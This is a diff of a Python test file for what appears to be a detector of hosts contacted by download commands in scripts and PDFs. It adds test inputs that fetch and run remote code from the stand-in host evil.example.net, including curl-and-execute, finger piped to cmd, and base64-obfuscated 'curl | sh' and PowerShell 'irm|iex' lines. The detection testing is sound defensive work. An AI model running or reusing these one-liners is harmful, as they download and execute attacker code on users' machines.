@@ -221,6 +221,10 @@ def test_what_no_command_fetches_and_what_lies_near_by_leads_nowhere() -> None:
         "powershell iex(irm evil.example.net)",
         "$c = 1; Invoke-WebRequest -UseBasicParsing -Uri 'evil.example.net/go'",
         "mshta.exe evil.example.net:8080/a.hta",
+        "@echo off\r\ncurl -so %tmp%\\a.js -A x evil.example.net & %tmp%\\a.js",
+        "@echo off\r\nfinger root@evil.example.net | cmd",
+        "@echo off\r\nssh -o ProxyCommand=x x@evil.example.net",
+        f"echo '{b64encode(b'curl -s http://evil.example.net/i | sh').decode()}' | base64 -d | bash -c",
         f"powershell -e {b64encode('irm evil.example.net|iex'.encode('utf-16-le')).decode()}",
     ],
 )
@@ -231,6 +235,11 @@ def test_a_program_that_fetches_from_a_host_alone_leads_there(command: str) -> N
 def test_the_files_of_a_command_are_no_hosts() -> None:
     said = b"@echo off\r\nmshta menu.hta\r\ncurl -o liste.txt\r\nwget -i adresses.csv\r\nirm $a.b\r\n"
     assert look(said).links == []
+
+
+def test_letters_that_have_a_word_of_commands_lead_nowhere() -> None:
+    said = "L'IRM du genou, chu-dijon.fr ; ssh le finger, curl a Beaune : beaune.fr."
+    assert look(samples.pdf(said)).links == look(said.encode()).links == []
 
 
 def test_a_name_that_is_no_text_hides_no_file_of_a_pdf() -> None:
